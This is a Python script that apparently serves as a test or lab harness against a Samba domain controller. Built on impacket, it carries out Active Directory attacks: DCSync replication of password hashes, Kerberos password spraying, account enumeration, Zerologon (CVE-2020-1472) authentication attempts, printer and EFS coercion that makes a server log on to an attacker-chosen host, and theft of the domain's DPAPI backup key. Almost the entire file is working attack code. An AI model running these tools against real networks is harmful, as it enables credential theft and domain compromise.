"""What an intruder does in a domain and no ready-made script does here: a program of the system's own Python.

    python3 remote.py dcsync secretsdump.py's own words     DRSUAPI replication, made so that Samba answers it
    python3 remote.py spray DC DOMAIN FILE PAUSE PASSWORD... AS-REQ for each account with each password
    python3 remote.py names DC DOMAIN FILE PAUSE            AS-REQ without proof: which accounts there are
    python3 remote.py zerologon DC NAME TRIES               NetrServerAuthenticate3 with a credential of zeros
    python3 remote.py coerce DC USER:PASSWORD DOMAIN WHERE  RPRN and EFSR calls that make a server log on elsewhere
    python3 remote.py backupkey DC USER:PASSWORD DOMAIN     the domain's backup key, over LSARPC and BKRP

It needs impacket and nothing of this project. It prints one line a step, and goes on where a server refuses.
"""

import runpy
import sys
import time
from collections.abc import Callable
from functools import partial
from importlib import import_module
from pathlib import Path
from typing import Any

EXAMPLES = "/usr/share/doc/python3-impacket/examples"
SCHEMA_INFO = [0xFF, *[0] * 20]
"""The last entry of a prefix table from another controller ([MS-DRSR] section 5.16.4); Samba asks for one."""


def dcsync(words: list[str]) -> None:
    """Replicate accounts as another controller would, by impacket's secretsdump."""
    drsuapi, rpcrt = import_module("impacket.dcerpc.v5.drsuapi"), import_module("impacket.dcerpc.v5.rpcrt")
    request = rpcrt.DCERPC_v5.request

    def with_schema_info(self: Any, asked: Any, *more: Any, **named: Any) -> Any:
        if isinstance(asked, drsuapi.DRSGetNCChanges):
            table = asked["pmsgIn"]["V8"]["PrefixTableDest"]
            entry = drsuapi.PrefixTableEntry()
            entry["ndx"], entry["prefix"]["length"], entry["prefix"]["elements"] = 0, len(SCHEMA_INFO), SCHEMA_INFO
            table["pPrefixEntry"] = [*table["pPrefixEntry"], entry]
            table["PrefixCount"] = len(table["pPrefixEntry"])
        return request(self, asked, *more, **named)

    rpcrt.DCERPC_v5.request = with_schema_info
    sys.argv = ["secretsdump.py", *words]
    runpy.run_path(f"{EXAMPLES}/secretsdump.py", run_name="__main__")


def spray(words: list[str]) -> None:
    """Ask for a ticket for each account with one password, then with the next."""
    dc, domain, names, pause, *passwords = words
    for password in passwords:
        for name in Path(names).read_text().split():
            _ticket(dc, domain, name, password)
            time.sleep(float(pause))


def names(words: list[str]) -> None:
    """Ask for a ticket of each account without proof of who asks: the answer tells whether there is one."""
    dc, domain, listed, pause = words
    kerberos = import_module("impacket.krb5.kerberosv5")
    asn1, types = import_module("impacket.krb5.asn1"), import_module("impacket.krb5.types")
    constants = import_module("impacket.krb5.constants")
    encoder = import_module("pyasn1.codec.der.encoder")
    for name in Path(listed).read_text().split():
        asked = asn1.AS_REQ()
        asked["pvno"], asked["msg-type"] = 5, int(constants.ApplicationTagNumbers.AS_REQ.value)
        body = asn1.seq_set(asked, "req-body")
        body["kdc-options"] = constants.encodeFlags([constants.KDCOptions.forwardable.value])
        client = types.Principal(name, type=constants.PrincipalNameType.NT_PRINCIPAL.value)
        server = types.Principal(f"krbtgt/{domain}", type=constants.PrincipalNameType.NT_PRINCIPAL.value)
        asn1.seq_set(body, "cname", client.components_to_asn1)
        asn1.seq_set(body, "sname", server.components_to_asn1)
        body["realm"] = domain.upper()
        body["till"] = types.KerberosTime.to_asn1(import_module("datetime").datetime(2037, 1, 1))
        body["nonce"] = 1 + len(name)
        asn1.seq_set_iter(body, "etype", (int(constants.EncryptionTypes.aes256_cts_hmac_sha1_96.value), 23))
        _tell(name, partial(kerberos.sendReceive, encoder.encode(asked), domain.upper(), dc))
        time.sleep(float(pause))


def zerologon(words: list[str]) -> None:
    """Authenticate to NETLOGON with nothing but zeros, again and again (CVE-2020-1472; a repaired server refuses)."""
    dc, name, tries = words
    nrpc = import_module("impacket.dcerpc.v5.nrpc")
    dce = _bound(dc, nrpc.MSRPC_UUID_NRPC)
    for place in range(int(tries)):
        nrpc.hNetrServerReqChallenge(dce, f"\\\\{name}\x00", f"{name}\x00", b"\0" * 8)
        kind = nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel
        machine = (f"{name}$\x00", kind, f"{name}\x00", b"\0" * 8, 0x212FFFFF)
        _tell(f"try {place}", partial(nrpc.hNetrServerAuthenticate3, dce, f"\\\\{name}\x00", *machine))


def coerce(words: list[str]) -> None:
    """Ask a server's printer and file-encryption services to call a host of ours."""
    dc, known, domain, where = words
    rprn = import_module("impacket.dcerpc.v5.rprn")
    dce = _over_smb(dc, known, domain, r"\pipe\spoolss", rprn.MSRPC_UUID_RPRN)
    if dce:
        printer = _tell("open", lambda: rprn.hRpcOpenPrinter(dce, f"\\\\{dc}\x00"))
        handle = printer["pHandle"] if printer else b"\0" * 20
        add_job, asked = rprn.PRINTER_CHANGE_ADD_JOB, rprn.hRpcRemoteFindFirstPrinterChangeNotificationEx
        _tell("notify", lambda: asked(dce, handle, add_job, pszLocalMachine=f"\\\\{where}\x00"))
    uuidtup = import_module("impacket.uuid").uuidtup_to_bin
    for pipe in (r"\pipe\efsrpc", r"\pipe\lsarpc"):
        _over_smb(dc, known, domain, pipe, uuidtup(("c681d488-d850-11d0-8c52-00c04fd90f7e", "1.0")))


def backupkey(words: list[str]) -> None:
    """Fetch the key that opens all users' protected data: over LSARPC, and over BKRP."""
    dc, known, domain = words
    lsad, bkrp = import_module("impacket.dcerpc.v5.lsad"), import_module("impacket.dcerpc.v5.bkrp")
    dce = _over_smb(dc, known, domain, r"\pipe\lsarpc", lsad.MSRPC_UUID_LSAD)
    if dce:
        opened = _tell("policy", lambda: lsad.hLsarOpenPolicy2(dce, 0x00000004))
        for name in ("G$BCKUPKEY_PREFERRED", "G$BCKUPKEY_P"):
            if opened:
                _tell(name, partial(lsad.hLsarRetrievePrivateData, dce, opened["PolicyHandle"], name))
    dce = _over_smb(dc, known, domain, r"\pipe\protected_storage", bkrp.MSRPC_UUID_BKRP, sealed=True)
    if dce:
        _tell("key", lambda: bkrp.hBackuprKey(dce, bkrp.BACKUPKEY_BACKUP_GUID, b"\0" * 16))
        _tell("key", lambda: bkrp.hBackuprKey(dce, bkrp.BACKUPKEY_RETRIEVE_BACKUP_KEY_GUID, b""))


def _ticket(dc: str, domain: str, name: str, password: str) -> None:
    kerberos, types = import_module("impacket.krb5.kerberosv5"), import_module("impacket.krb5.types")
    client = types.Principal(name, type=import_module("impacket.krb5.constants").PrincipalNameType.NT_PRINCIPAL.value)
    _tell(name, lambda: kerberos.getKerberosTGT(client, password, domain, b"", b"", "", dc))


def _bound(dc: str, uuid: bytes) -> Any:
    """Return a connection to an interface over TCP, its port asked of the endpoint mapper."""
    epm, transport = import_module("impacket.dcerpc.v5.epm"), import_module("impacket.dcerpc.v5.transport")
    where = epm.hept_map(dc, uuid, protocol="ncacn_ip_tcp")
    dce = transport.DCERPCTransportFactory(where).get_dce_rpc()
    dce.connect()
    dce.bind(uuid)
    return dce


def _over_smb(dc: str, known: str, domain: str, pipe: str, uuid: bytes, sealed: bool = False) -> Any:
    """Return a connection to an interface over a named pipe, None where the server refuses."""
    rpcrt, transport = import_module("impacket.dcerpc.v5.rpcrt"), import_module("impacket.dcerpc.v5.transport")
    user, _, password = known.partition(":")
    way = transport.DCERPCTransportFactory(f"ncacn_np:{dc}[{pipe}]")
    way.set_credentials(user, password, domain, "", "")
    dce = way.get_dce_rpc()
    if sealed:
        dce.set_auth_type(rpcrt.RPC_C_AUTHN_WINNT)
        dce.set_auth_level(rpcrt.RPC_C_AUTHN_LEVEL_PKT_PRIVACY)

    def bound() -> Any:
        dce.connect()
        dce.bind(uuid)
        return dce

    return _tell(pipe, bound)


def _tell(what: str, step: Callable[[], Any]) -> Any:
    """Do a step and print how it went; None where the server refused, whatever it said."""
    try:
        result = step()
    except Exception as problem:
        # impacket raises plain exceptions for answers that refuse.
        print(f"{what}: {' '.join(str(problem).split())[:120]}")
        return None
    print(f"{what}: done")
    return result


WAYS: dict[str, Callable[[list[str]], None]] = {
    way.__name__: way for way in (dcsync, spray, names, zerologon, coerce, backupkey)
}

if __name__ == "__main__":
    WAYS[sys.argv[1]](sys.argv[2:])
